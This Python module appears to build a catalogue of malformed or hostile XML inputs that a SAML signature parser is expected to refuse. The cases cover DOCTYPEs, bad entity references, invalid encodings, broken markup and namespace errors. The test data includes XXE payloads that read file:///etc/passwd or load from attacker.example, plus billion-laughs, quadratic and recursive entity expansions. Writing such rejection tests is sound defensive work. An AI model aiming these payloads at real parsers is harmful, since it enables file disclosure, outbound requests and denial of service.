"""Texts that are not XML as it is accepted here: broken, encoded otherwise, or with a DOCTYPE."""

from . import names
from .accepted import LEAN
from .catalogue import MALFORMED, RULE_SAYS_IT, outside, replaced, says, signed, syntax


def add_all(catalogue):
    _doctypes(catalogue)
    _references(catalogue)
    _encodings(catalogue)
    _broken(catalogue)
    _namespaces(catalogue)


def _doctypes(c):
    good = signed(LEAN)

    def add(name, doctype, *edits):
        text = doctype + good
        for edit in edits:
            text = replaced(text, *edit)
        c.refuse("doctype/doctype-" + name, RULE_SAYS_IT, text, MALFORMED)
    use = (">Ada<", ">&e;<")
    add("empty", "<!DOCTYPE saml:Assertion>")
    add("empty-subset", "<!DOCTYPE saml:Assertion []>")
    add("after-declaration", '<?xml version="1.0"?>\n<!DOCTYPE saml:Assertion>\n')
    add("after-comment", "<!-- a --><!DOCTYPE saml:Assertion>")
    add("system", '<!DOCTYPE saml:Assertion SYSTEM "file:///etc/passwd">')
    add("system-http", '<!DOCTYPE saml:Assertion SYSTEM "http://attacker.example/a.dtd">')
    add("public", '<!DOCTYPE saml:Assertion PUBLIC "-//A//B" "http://attacker.example/a.dtd">')
    add("unused-entity", '<!DOCTYPE saml:Assertion [<!ENTITY e "Ada">]>')
    # The signature is genuine: expanding the entity gives back what was signed.
    add("entity", '<!DOCTYPE saml:Assertion [<!ENTITY e "Ada">]>', use)
    add("external-entity", '<!DOCTYPE saml:Assertion [<!ENTITY e SYSTEM "file:///etc/passwd">]>', use)
    add("external-entity-http",
        '<!DOCTYPE saml:Assertion [<!ENTITY e SYSTEM "http://attacker.example/">]>', use)
    add("parameter-entity",
        '<!DOCTYPE saml:Assertion [<!ENTITY % p "<!ENTITY e \'Ada\'>"> %p;]>', use)
    add("external-parameter-entity",
        '<!DOCTYPE saml:Assertion [<!ENTITY % p SYSTEM "http://attacker.example/"> %p;]>')
    add("unparsed-entity",
        '<!DOCTYPE saml:Assertion [<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "e" NDATA n>]>')
    add("attribute-default",
        '<!DOCTYPE saml:Assertion [<!ATTLIST saml:Subject a CDATA "b">]>')
    add("id-attribute",
        "<!DOCTYPE saml:Assertion [<!ATTLIST saml:Attribute Name ID #REQUIRED>]>")
    add("element", "<!DOCTYPE saml:Assertion [<!ELEMENT saml:Assertion ANY>]>")
    laughs = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    add("billion-laughs", f'<!DOCTYPE saml:Assertion [<!ENTITY e0 "ha">{laughs}]>',
        (">Ada<", ">&e9;<"))
    add("quadratic", f'<!DOCTYPE saml:Assertion [<!ENTITY e "{"a" * 5000}">]>',
        (">Ada<", ">" + "&e;" * 1000 + "<"))
    add("recursive", '<!DOCTYPE saml:Assertion [<!ENTITY e "&f;"><!ENTITY f "&e;">]>', use)
    c.refuse("doctype/doctype-inside-root", "a declaration out of place",
             replaced(good, "<saml:Subject>", "<!DOCTYPE a><saml:Subject>"), MALFORMED)
    c.refuse("doctype/doctype-after-root", "a declaration out of place",
             good + "<!DOCTYPE a>", MALFORMED)
    c.refuse("doctype/doctype-lower-case", "not a declaration at all",
             "<!doctype html>" + good, MALFORMED)


def _references(c):
    good = signed(LEAN)
    for name, reference in (
            ("undefined", "&e;"), ("html", "&nbsp;"), ("nul", "&#0;"), ("control", "&#1;"),
            ("surrogate", "&#xD800;"), ("noncharacter", "&#xFFFE;"), ("too-large", "&#x110000;"),
            ("overflowing", "&#4294967361;"), ("unfinished", "&amp"), ("bare", "& "),
            ("empty", "&#;"), ("bad-digit", "&#12a;"), ("upper-case-x", "&#X41;")):
        c.refuse(f"entity-references/entity-{name}", RULE_SAYS_IT,
                 replaced(good, ">Ada<", f">{reference}<"), MALFORMED)
    for name, reference in (("undefined", "&e;"), ("nul", "&#0;"), ("bare", "&")):
        c.refuse(f"entity-references/entity-in-attribute-{name}", RULE_SAYS_IT,
                 replaced(good, "<saml:AuthnContextClassRef>",
                          f'<saml:AuthnContextClassRef a="{reference}">'), MALFORMED)


def _encodings(c):
    good = signed(LEAN)
    head, tail = (part.encode() for part in good.split(">Ada<"))

    def value(name, data, about="bytes that are not UTF-8"):
        c.refuse(f"encoding/utf8-{name}", about, head + b">" + data + b"<" + tail, MALFORMED)
    value("overlong-two", b"\xc0\xaf")
    value("overlong-three", b"\xe0\x80\xaf")
    value("overlong-four", b"\xf0\x80\x80\xaf")
    value("overlong-nul", b"\xc0\x80")
    value("surrogate", b"\xed\xa0\x80")
    value("surrogate-pair", b"\xed\xa0\xb4\xed\xb4\x9e")
    value("above-10ffff", b"\xf4\x90\x80\x80")
    value("five-bytes", b"\xf8\x88\x80\x80\x80")
    value("cut", b"\xe4\xb8")
    value("cut-before-markup", b"\xf0\x9d\x84")
    value("lone-continuation", b"\x80")
    value("ff", b"\xff")
    value("latin-1", "Zo\u00eb".encode("latin-1"))
    value("fffe", b"\xef\xbf\xbe", "a character that XML forbids")
    value("ffff", b"\xef\xbf\xbf", "a character that XML forbids")
    value("nul", b"A\0da", "a character that XML forbids")
    value("control", b"A\x01da", "a character that XML forbids")
    value("escape", b"A\x1bda", "a character that XML forbids")
    c.refuse("encoding/nul-last", "a NUL byte after the root", good.encode() + b"\0", MALFORMED)
    c.refuse("encoding/nul-first", "a NUL byte before the root", b"\0" + good.encode(), MALFORMED)
    c.refuse("encoding/nul-then-more", "more text behind a NUL byte",
             good.encode() + b"\0<a/>", MALFORMED)
    for name, encoding in (("utf16-le", "utf-16-le"), ("utf16-be", "utf-16-be"),
                           ("utf32", "utf-32-le")):
        c.refuse(f"encoding/encoding-{name}", "another encoding", good.encode(encoding), MALFORMED)
    c.refuse("encoding/encoding-utf16-marked", "another encoding, with a byte order mark",
             good.encode("utf-16"), MALFORMED)
    c.refuse("encoding/encoding-utf16-declared", "another encoding, declared",
             ('<?xml version="1.0" encoding="UTF-16"?>' + good).encode("utf-16"), MALFORMED)
    for name in ("ISO-8859-1", "US-ASCII", "UTF-16", "UTF-7", "EBCDIC-CP-US", "windows-1252",
                 "unknown"):
        text = f'<?xml version="1.0" encoding="{name}"?>' + good
        c.refuse(f"encoding/encoding-declared-{name.lower()}", "a declared encoding other than UTF-8",
                 text, MALFORMED)
    # The declared encoding gives the bytes another meaning than the one that was signed.
    text = '<?xml version="1.0" encoding="ISO-8859-1"?>' + signed(LEAN.but(given_name="Zo\u00eb"))
    c.refuse("encoding/encoding-latin-1-text", "text outside ASCII under another encoding",
             text.encode("latin-1"), MALFORMED)


def _broken(c):
    good = signed(LEAN)

    def add(name, text):
        c.refuse("well-formedness/broken-" + name, RULE_SAYS_IT, text, MALFORMED)
    add("empty-file", "")
    add("blank-file", " \n")
    add("comment-only", "<!-- a -->")
    add("text-only", "token")
    add("declaration-only", '<?xml version="1.0"?>')
    add("byte-order-mark-only", "\ufeff")
    add("two-byte-order-marks", "\ufeff\ufeff" + good)
    add("trailing-text", good + "x")
    add("trailing-cdata", good + "<![CDATA[]]>")
    add("trailing-reference", good + "&#32;")
    add("leading-text", "x" + good)
    add("two-roots", good + good)
    add("two-roots-other", good + "<a/>")
    add("other-root-first", "<a/>" + good)
    for percent in (1, 25, 50, 75, 99):
        add(f"cut-at-{percent}-percent", good[:len(good) * percent // 100])
    add("cut-last-byte", good[:-1])
    add("blank-before-declaration", ' <?xml version="1.0"?>' + good)
    add("declaration-twice", '<?xml version="1.0"?><?xml version="1.0"?>' + good)
    add("declaration-inside", replaced(good, "<saml:Subject>", '<?xml version="1.0"?><saml:Subject>'))
    add("version-2", '<?xml version="2.0"?>' + good)
    add("version-1.1", '<?xml version="1.1"?>' + good)
    add("end-tag-missing", replaced(good, "</saml:Subject>", ""))
    add("end-tag-twice", replaced(good, "</saml:Subject>", "</saml:Subject></saml:Subject>"))
    add("end-tag-of-another", replaced(good, "</saml:Subject>", "</saml:Subjekt>"))
    add("end-tag-other-prefix",
        replaced(replaced(good, "<saml:Subject>", f'<saml:Subject xmlns:s="{names.SAML}">'),
                 "</saml:Subject>", "</s:Subject>"))
    add("crossed-tags", replaced(good, "</saml:NameID>\n<saml:SubjectConfirmation ",
                                 "\n<saml:SubjectConfirmation "))
    ref = "<saml:AuthnContextClassRef>"

    def attribute(name, text):
        add("attribute-" + name, replaced(good, ref, ref[:-1] + " " + text + ">"))
    attribute("twice", 'a="1" a="1"')
    attribute("unquoted", "a=1")
    attribute("no-value", "a")
    attribute("less-than", 'a="<"')
    attribute("no-blank-between", 'a="1"b="2"')
    attribute("bad-name", '1a="1"')
    attribute("unfinished", 'a="1')
    add("comment-two-hyphens", replaced(good, ref, "<!-- -- -->" + ref))
    add("comment-three-hyphens", replaced(good, ref, "<!-- --->" + ref))
    add("comment-unfinished", good + "<!-- ")
    add("cdata-end-in-text", replaced(good, ">Ada<", ">]]><"))
    add("cdata-unfinished", replaced(good, ">Ada<", "><![CDATA[Ada<"))
    add("instruction-unfinished", good + "<?a ")
    add("instruction-named-xml", replaced(good, ref, "<?XML a?>" + ref))
    add("bare-less-than", replaced(good, ">Ada<", "><<"))
    add("blank-after-less-than", replaced(good, ref, "< saml:AuthnContextClassRef>"))


def _namespaces(c):
    ref, end = "<saml:AuthnContextClassRef>", "</saml:AuthnContextClassRef>"

    def add(name, *edits, refusals=MALFORMED):
        c.refuse("namespaces/namespace-" + name, RULE_SAYS_IT,
                 signed(LEAN, *edits), refusals)
    def undeclared(element, prefix):
        return outside(f"Element '{element}' uses the undeclared prefix '{prefix}'")

    def other_namespace(element):
        return says(f"Element '{element}' has unexpected namespace")
    add("undeclared-element", (ref, "<nowhere:AuthnContextClassRef>"),
        (end, "</nowhere:AuthnContextClassRef>"), refusals=other_namespace("AuthnContextClassRef"))
    add("undeclared-value-element",
        ('<saml:AttributeValue xsi:type="xs:string">Ada</saml:AttributeValue>',
         "<nowhere:AttributeValue>Ada</nowhere:AttributeValue>"),
        refusals=other_namespace("AttributeValue"))
    add("undeclared-attribute", (ref, ref[:-1] + ' nowhere:a="b">'),
        refusals=undeclared("saml:AuthnContextClassRef", "nowhere"))
    add("undeclared-attribute-in-signature", ("<ds:SignedInfo>", '<ds:SignedInfo nowhere:a="b">'),
        refusals=undeclared("ds:SignedInfo", "nowhere"))
    add("undeclared-prefix-of-all", (f'xmlns:saml="{names.SAML}" ', ""),
        refusals=other_namespace("Assertion"))
    add("undeclared-xsi", (f'xmlns:xsi="{names.XSI}" ', ""),
        refusals=undeclared("saml:AttributeValue", "xsi"))
    c.refuse("namespaces/namespace-undeclared-ds", RULE_SAYS_IT,
             replaced(signed(LEAN), f' xmlns:ds="{names.DS}"', ""),
             syntax("Expected element 'Signature', found 'ds:Signature'"))
    add("prefix-unbound", (ref, '<saml:AuthnContextClassRef xmlns:a="">'))
    add("xml-bound-elsewhere", (ref, ref[:-1] + ' xmlns:xml="urn:a">'))
    add("xmlns-bound", (ref, ref[:-1] + ' xmlns:xmlns="urn:a">'))
    add("other-prefix-for-xml",
        (ref, ref[:-1] + ' xmlns:a="http://www.w3.org/XML/1998/namespace">'))
    add("same-attribute-by-two-prefixes",
        (ref, ref[:-1] + ' xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="1">'))
    add("declared-twice", (ref, ref[:-1] + ' xmlns:a="urn:a" xmlns:a="urn:a">'))
    add("two-colons", (ref, ref[:-1] + ' a:b:c="1">'))
    add("leading-colon", (ref, ref[:-1] + ' :a="1">'))
    add("trailing-colon", (ref, ref[:-1] + ' saml:="1">'))
    stand_in = ("http://stand-in.example/path", "relative/path")
    inclusive = LEAN.signed_as(c14n=names.C14N, transforms=(names.ENVELOPED, names.C14N))
    used, default = f' xmlns:a="{stand_in[0]}" a:b="c">', f' xmlns="{stand_in[0]}">'
    for name, token, attributes in (("relative-uri", LEAN, used),
                                    ("relative-uri-inclusive", inclusive, used),
                                    ("relative-default-inclusive", inclusive, default)):
        text = signed(token, (ref, ref[:-1] + attributes), stand_in=stand_in)
        c.refuse("namespaces/namespace-" + name, "a relative namespace URI, which has no canonical form",
                 text, outside("The namespace URI 'relative/path' is relative"))
